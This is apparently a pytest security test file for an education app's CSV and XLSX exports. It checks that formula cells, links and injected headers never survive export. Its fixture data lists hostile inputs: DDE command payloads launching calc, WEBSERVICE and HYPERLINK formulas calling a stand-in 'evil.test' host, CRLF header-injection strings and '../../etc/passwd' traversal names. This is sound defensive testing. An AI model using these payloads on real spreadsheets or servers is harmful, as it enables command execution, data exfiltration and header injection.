"""S9: nothing that people wrote runs in a spreadsheet, whatever file it leaves in."""

import csv
import io
import re
import zipfile

import pytest

from mooctang_core.model.base import find
from mooctang_core.tables import original_text
from mooctang_core.testing.campus import ROOM

from .test_matrix import token_of
from .town import build, fill

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", '="x"', "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.test\",\"x\")",
    '=WEBSERVICE("http://evil.test")', "=IMPORTXML(1,2)", "-2+3+cmd|' /C calc'!A0", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1",
    "\u00a0=1+1", "\u202e=1+1", "=\x001", "-", "=", "@x", "+evil", "-1e9 x", '",=1+1,"', '"\r\n=1+1', "x\n=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|=1+1", "-2", "+8613912345678",
)
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?\Z")


@pytest.fixture(scope="module")
def town(tmp_path_factory):
    """A class whose people, groups and activities are all named like formulas."""
    campus = build(tmp_path_factory.mktemp("exports"))
    urls = fill(campus)
    with campus.writing() as school:
        room = find(school, ROOM)
        room.title = "=1+1"
        for number, text in enumerate(FORMULAS):
            room.set_member(f"x{number}", name=text, number=text, cohort=text, spans=((campus.clock(), None),))
        for node, text in zip(room["sessions"].running.values(), FORMULAS[:4]):
            node.title = text
    reasons = [text for text in FORMULAS if "\0" not in text and text.strip()]
    for number, text in enumerate(reasons):
        browser = campus.browser("teacher")
        browser.app.post(urls["closed"] + "correct", {"person": f"x{number}", "status": "late", "why": text, "csrf_token": token_of(browser)}, status=303)
    yield campus, urls
    campus.close()


def exports(urls):
    yield from (("teacher", f"{ROOM}/{view}") for view in ("gradebook", "roster"))
    yield "teacher", f"{ROOM}/report?name=checkin.checkin"
    yield from (("teacher", f"{urls[word]}table?name={name}") for word, name in (("closed", "records"), ("closed", "detail"), ("buzzer", "scores")))


@pytest.mark.parametrize("number", range(6))
def test_no_cell_of_a_csv_runs(town, number):
    campus, urls = town
    who, url = list(exports(urls))[number]
    path, _mark, query = url.partition("?")
    answer = campus.browser(who).app.get(f"{path}.csv?{query}")
    assert "attachment" in answer.headers["Content-Disposition"] and answer.headers["Content-Security-Policy"] == "sandbox"
    rows = list(csv.reader(io.StringIO(answer.body.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > len(FORMULAS)
    for cell in cells:
        bare = cell.lstrip("\u200b\ufeff\u3000\u00a0\u202e \n")
        assert bare[:1] not in tuple("=+-@＝＋－＠\t\r") or PLAIN_NUMBER.match(cell), repr(cell)
    written = {original_text(cell) for cell in cells}
    assert [text for text in FORMULAS if text not in written] == [], "what comes back to us is what people wrote"


WORKBOOKS = [("teacher", f"{ROOM}/gradebook.xlsx"), ("teacher", f"{ROOM}/roster.xlsx"), ("teacher", f"{ROOM}/report.xlsx?name=checkin.checkin"),
             ("teacher", "closed"), ("teacher", "buzzer"), ("manager", "/manage/plugins/export?plugin=checkin")]


@pytest.mark.parametrize("who, url", WORKBOOKS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(town, who, url):
    campus, urls = town
    answer = campus.browser(who).app.get(urls[url] + "tables.xlsx" if url in urls else url)
    with zipfile.ZipFile(io.BytesIO(answer.body)) as book:
        names = book.namelist()
        sheets = [book.read(name).decode() for name in names if name.startswith("xl/worksheets/sheet")]
    assert sheets and not any(re.search(r"<f[ >]|<hyperlink", sheet) for sheet in sheets)
    assert not any("external" in name or name.endswith(".bin") for name in names)
    cells = re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="(\w+)")?>', "".join(sheets))
    assert set(cells) <= {"s", "inlineStr", ""} and len(cells) > len(FORMULAS)
    for sheet in sheets:
        assert all(re.fullmatch(r"-?\d+(\.\d+)?([eE][+-]?\d+)?", value) for value in re.findall(r"<v>([^<]*)</v>", sheet))


@pytest.mark.parametrize("title", ["=1+1", "a\r\nX-Evil: 1", 'a"; x="', "../../etc/passwd", "..\\..\\x", "\0", "/", ".", "x" * 300, "课\u202e堂", "%0d%0aX: 1", "a;b"])
def test_a_file_name_is_a_name_and_no_header(town, title):
    campus, _urls = town
    with campus.writing() as school:
        find(school, ROOM).title = title
    answer = campus.browser("teacher").app.get(ROOM + "/roster.csv")
    disposition = answer.headers["Content-Disposition"]
    assert re.fullmatch(r"attachment; filename\*=UTF-8''[A-Za-z0-9%._~-]+", disposition), disposition
    assert "%2F" not in disposition and "%5C" not in disposition and "%0D" not in disposition and len(disposition) < 1500
    assert "X-Evil" not in answer.headers and answer.headers["X-Content-Type-Options"] == "nosniff"
